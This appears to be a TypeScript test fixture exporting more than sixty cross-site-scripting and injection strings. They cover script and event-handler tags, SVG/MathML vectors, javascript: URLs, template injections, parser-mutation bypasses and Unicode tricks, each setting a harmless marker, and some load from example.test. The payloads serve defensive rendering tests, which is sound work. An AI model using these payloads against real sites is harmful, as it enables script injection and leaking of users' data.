/** What each payload would do if a page took it for anything but text. */
const MARK = "window.__executed=1";

const HTML = [
  `<script>${MARK}</script>`,
  `<SCRIPT>${MARK}</SCRIPT>`,
  `<script src="data:text/javascript,${MARK}"></script>`,
  `<script src="https://example.test/x.js"></script>`,
  `"><script>${MARK}</script>`,
  `'><script>${MARK}</script>`,
  `</pre><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<img src=x onerror=${MARK}>`,
  `<img src=x onerror="${MARK}"//`,
  `"><img src=x onerror=${MARK}>`,
  `<img src="https://example.test/pixel.png">`,
  `<img/src='x'/onerror='${MARK}'>`,
  `<IMG """><SCRIPT>${MARK}</SCRIPT>">`,
  `<body onload=${MARK}>`,
  `<div onmouseover="${MARK}" style="position:fixed;inset:0">x</div>`,
  `<input autofocus onfocus=${MARK}>`,
  `<select autofocus onfocus=${MARK}>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<video src=x onerror=${MARK}></video>`,
  `<audio src=x onerror=${MARK}></audio>`,
  `<video><source onerror=${MARK}></video>`,
  `<marquee onstart=${MARK}>x</marquee>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="<script>parent.__executed=1</script>"></iframe>`,
  `<object data="javascript:${MARK}"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<base href="https://example.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://example.test/">`,
  `<link rel=stylesheet href="https://example.test/x.css">`,
  `<style>@import "https://example.test/x.css";</style>`,
  `<style>*{background:url(https://example.test/x)}</style>`,
  `<table background="javascript:${MARK}"><td>x</table>`,
];

const FOREIGN = [
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${MARK}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${MARK}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${MARK} />#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${MARK}></style></mglyph></math>`,
  `<math href="javascript:${MARK}">x</math>`,
];

const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\tscript:${MARK}`,
  ` javascript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `vbscript:${MARK}`,
  `[link](javascript:${MARK})`,
  `![image](https://example.test/leak?q=1)`,
  `<a href="javascript:${MARK}">x</a>`,
  `//example.test/x`,
  `#/runs/<img src=x onerror=${MARK}>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `<%= ${MARK} %>`,
  `#{${MARK}}`,
  `\`;${MARK};//`,
  `';${MARK};//`,
  `"};${MARK};//`,
  `{"__html":"<img src=x onerror=${MARK}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${MARK}"}}}`,
];

/** Texts that change when a parser writes them out and reads them again. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><img src=x onerror=${MARK}></template>`,
  `<listing>&lt;img src=x onerror=${MARK}&gt;</listing>`,
  `<svg></p><style><a id="</style><img src=x onerror=${MARK}>">`,
  `<math><mi><table><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${MARK}>`,
  `&lt;img src=x onerror=${MARK}&gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${MARK}\\x3e`,
];

const UNICODE = [
  `\u202E<script>${MARK}</script>\u202C`,
  `\u2066<img src=x onerror=${MARK}>\u2069\u2068`,
  `\u200B<\u200Bscript>${MARK}</script>`,
  `\uFEFF<script>${MARK}</script>`,
  `＜script＞${MARK}＜/script＞`,
  `<ſcript>${MARK}</ſcript>`,
  `\u2028${MARK}\u2029//`,
  `a${"\u0300\u0489".repeat(40)}`,
  `\u202Etxt.exe\u2069\u2069\u2069`,
  `${"W".repeat(500)}`,
  `مرحبا ${"ש".repeat(120)} <b onclick=${MARK}>`,
  `\u0007\u001B[31m<script>${MARK}</script>`,
];

/** More than 60 texts that some page, somewhere, would have executed, loaded, or been bent by. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HTML,
  ...FOREIGN,
  ...ADDRESSES,
  ...TEMPLATES,
  ...MUTATING,
  ...UNICODE,
];
